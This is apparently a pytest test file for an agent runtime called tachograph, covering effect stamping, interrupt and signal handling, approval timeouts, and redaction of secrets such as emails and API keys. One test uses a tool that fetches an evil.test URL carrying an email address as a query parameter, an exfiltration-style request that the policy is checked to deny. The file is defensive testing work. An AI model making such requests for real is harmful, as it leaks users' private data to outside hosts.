"""The driver: stamps, events in order, and what foreign code may do to it."""

from __future__ import annotations

import signal
from pathlib import Path
from typing import Any

import pytest

from tachograph import Agent, Policy, Stub, SystemClock, Tool
from tachograph.fail.errors import Cancelled, InputError, TaskError
from tachograph.runtime.core.clock import VirtualClock
from tachograph.runtime.core.effects import Outcome, RunEnded, StepEnded, Wait
from tachograph.runtime.driver.driver import drive
from tachograph.runtime.driver.stopping.interrupts import Interrupts
from tachograph.runtime.workspace.mounts import Host
from tests.support import answer, ask, attend_to_ctrl_c, failing, perform, policy_data, probe, tool

MS = 1_000_000


@pytest.fixture(autouse=True)
def _ctrl_c() -> None:
    attend_to_ctrl_c()


class _World:
    """Answers every effect with an empty outcome, or cancels at the second one."""

    def __init__(self, cancels: bool = False) -> None:
        self.cancels = cancels
        self.performed: list[str] = []

    def perform(self, effect: Any, stamps: Any) -> Outcome:
        self.performed.append(effect.position)
        if self.cancels and len(self.performed) == 2:
            raise Cancelled
        return Outcome()


def _two_waits(record: dict[str, Any]) -> Any:
    try:
        yield Wait(1, 0, 1, 5)
        yield Wait(1, 0, 2, 5)
    except Cancelled:
        record["cancelled"] = True
    yield StepEnded(1, record)
    return RunEnded("final_answer")


@pytest.mark.parametrize("cancels", [False, True])
def test_every_effect_is_stamped_cancelled_or_not(cancels: bool) -> None:
    lines: list[dict[str, Any]] = []
    world, record = _World(cancels), {}
    heard: list[Any] = []
    ending = drive(
        _two_waits(record), world, VirtualClock(), lines.append, lambda item, out: heard.append(item)
    )
    assert ending.reason == "final_answer" and world.performed == ["w0.1", "w0.2"]
    assert list(lines[0]["stamps"]) == ["w0.1", "w0.2"]
    assert ("cancelled" in lines[0]) is cancels and len(heard) == (1 if cancels else 2)


def test_virtual_time_goes_by_kind_and_place() -> None:
    def run(args: dict[str, Any], io: Any) -> Any:
        io.list("box")
        return {"said": "ok"}

    done = perform([ask(probe(n=1), probe("echo")), answer()], [tool(run=run)])
    took = {
        name: (b - a) // MS for step in done.steps[:1] for name, (a, b) in step["stamps"].items() if a < b
    }
    assert took == {"m.1": 200, "d0": 1, "i0.1": 20, "d1": 1, "i1.1": 20}


def test_a_step_line_is_put_before_the_next_step_is_asked() -> None:
    order: list[str] = []

    def model(asked: Any) -> Any:
        order.append(f"model {asked.step_index}")
        return ask(probe(n=asked.step_index)) if asked.step_index < 3 else answer()

    def listener(notice: Any) -> None:
        if notice.line is not None:
            order.append(notice.line["type"])

    perform(model, listeners=[listener])
    assert order == ["run", "model 1", "step", "model 2", "step", "model 3", "step", "end"]


def test_a_mistake_in_a_script_is_not_the_models_failure() -> None:
    with pytest.raises(TaskError):
        perform([TaskError("a mistake")])


def test_a_tool_that_raises_an_error_of_ours_fails_like_any_other() -> None:
    done = perform([ask(probe())], [tool(run=failing(TaskError("mine")))])
    assert done.result.mode == "catalogued_unhandled"
    assert done.steps[0]["errors"] == [{"position": "i0.1", "exception": "TaskError", "kind": "other"}]


def test_no_text_of_an_exception_enters_a_record() -> None:
    done = perform([ValueError("SECRET-1")])
    more = perform([ask(probe())], [tool(run=failing(KeyError("SECRET-2")))])
    assert b"SECRET" not in done.state + more.state


def test_secrets_of_every_way_in_become_placeholders() -> None:
    secret = "someone@example.com"
    got = []

    def run(args: dict[str, Any], io: Any) -> Any:
        got.append(args["path"])
        return {"said": f"{args['path']} {secret}"}

    redact = {"kinds": ["email"], "reveal_to": {"probe": ["email"]}}
    done = perform(
        [ask(probe(path=f"box/{secret}"), text=f"I, {secret}"), answer(f"ask {secret}")],
        [tool(run=run)],
        policy_data(redact=redact, approval={"required_for": ["probe"], "timeout_s": 1}),
        approve=lambda asked: __import__("tachograph").Answer("allow", secret, f"as {secret}"),
    )
    assert secret.encode() not in done.state and got == [f"box/{secret}"]
    assert done.results[0]["result"] == {"said": "box/<secret:email:1> <secret:email:1>"}
    assert done.result.answer == "ask <secret:email:1>"


def test_an_interrupt_is_raised_once_in_foreign_code_and_kept_elsewhere() -> None:
    interrupts = Interrupts()
    interrupts.defer()
    with pytest.raises(KeyboardInterrupt):
        interrupts.around(Outcome)
    assert interrupts.around(Outcome) == Outcome()
    with interrupts:
        signal.raise_signal(signal.SIGINT)  # nobody's code: it waits
        with pytest.raises(KeyboardInterrupt):
            interrupts.around(Outcome)


def test_a_second_signal_waits_for_nothing() -> None:
    passed = []
    with pytest.raises(KeyboardInterrupt), Interrupts():
        signal.raise_signal(signal.SIGINT)
        passed.append("first")
        signal.raise_signal(signal.SIGINT)
        passed.append("second")
    assert passed == ["first"]
    with pytest.raises(SystemExit) as left, Interrupts():
        signal.raise_signal(signal.SIGTERM)
    assert left.value.code == 143
    assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL


def test_an_interrupt_that_nothing_took_is_raised_at_the_end() -> None:
    with pytest.raises(KeyboardInterrupt), Interrupts():
        signal.raise_signal(signal.SIGINT)
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler


def test_an_answer_after_the_time_allowed_is_silence() -> None:
    """On the system clock a person has `timeout_s` seconds, however late the callable returns."""
    policy = Policy.from_dict(
        {**Policy.shipped().data, "approval": {"required_for": ["write"], "timeout_s": 1}}
    )

    class Clock(SystemClock):
        """A system clock that a test moves on."""

        ahead = 0

        def stamp(self) -> int:
            return super().stamp() + self.ahead

    def agent() -> Agent:
        call = {"tool": "write", "arguments": {"path": "sandbox/a.md", "content": "x"}}
        return Agent(Stub([{"calls": [call]}, {"answer": "done"}]), ["write"], policy)

    for seconds, ending in ((0, "final_answer"), (2, "approval_refused")):
        clock = Clock()

        def approve(_asked: object, clock: Clock = clock, seconds: int = seconds) -> bool:
            clock.ahead += seconds * 1_000_000_000
            return True

        assert agent().run("q", clock=clock, approve=approve).ending == ending


def test_what_a_tool_raised_can_be_logged(caplog: pytest.LogCaptureFixture) -> None:
    def run(_arguments: object, _io: object) -> object:
        raise KeyError("the very text")

    schema = {"type": "object", "additionalProperties": False}
    tool = Tool("search", "d", schema, schema, "pure", True, run)
    with caplog.at_level("INFO", logger="tachograph"):
        result = Agent(Stub([{"calls": [{"tool": "search"}]}]), [tool], Policy.shipped()).run("q")
    assert result.mode == "catalogued_unhandled"
    assert "the very text" in caplog.text and "the very text" not in str(result.steps[:])


def _gets(url: str) -> Tool:
    """A tool that fetches what it thinks of itself: no argument of a call holds it."""

    def run(args: dict[str, Any], io: Any) -> Any:
        return {"said": io.get(url).text}

    return tool(run=run)


def test_a_secret_that_is_met_while_a_tool_runs_is_not_recorded() -> None:
    policy = policy_data(redact=["email"], on_deny="inform")
    done = perform([ask(probe()), answer()], [_gets("https://evil.test/?to=ann@example.test")], policy)
    assert b"ann@example.test" not in done.state
    assert [d["decision"] for d in done.decisions] == ["allow", "deny"]
    (check,) = done.results[0]["attempts"][0]["checks"]
    assert check["target"] == "https://evil.test/?to=<secret:email:1>"


def test_where_the_secret_decides_the_verdict_is_marked(tmp_path: Path) -> None:
    """What a tool meets is decided on its real value; a replay, which has the placeholder, takes the verdict."""
    (tmp_path / "ann@example.test").mkdir()
    (tmp_path / "ann@example.test" / "x").write_text("hello")
    policy = policy_data(redact=["email"], url_allowlist=["https://good.test/ann@example.test/"])
    hosts = {"good.test": Host(tmp_path, "pages")}
    gets = _gets("https://good.test/ann@example.test/x")
    done = perform([ask(probe()), answer()], [gets], policy, hosts=hosts)
    (check,) = done.results[0]["attempts"][0]["checks"]
    assert (check["target"], check["hidden"]) == ("https://good.test/<secret:email:1>/x", "allow")
    assert {d["decision"] for d in done.decisions} == {"allow"} and done.end["totals"]["hidden_verdicts"] == 1
    assert b"ann@" not in done.state


@pytest.mark.parametrize("where", ["hosts", "identity"])
def test_a_run_that_is_set_up_with_a_secret_is_refused(tmp_path: Path, where: str) -> None:
    key = "sk-ant-" + "a1" * 12
    hosts = {"good.test": Host(tmp_path, "pages", {"/x": f"/y?k={key}"})} if where == "hosts" else {}

    def model(asked: Any) -> Any:
        raise AssertionError("the model was asked")

    if where == "identity":
        model.identity = {"options": {"api": key}}  # type: ignore[attr-defined]
    agent = Agent(
        model, [tool(), tool("echo")], Policy.from_dict(policy_data(redact=["anthropic_key"])), hosts=hosts
    )
    with pytest.raises(InputError, match=r"set up with a secret \(anthropic_key\)") as refused:
        agent.run("What?")
    assert key not in str(refused.value)
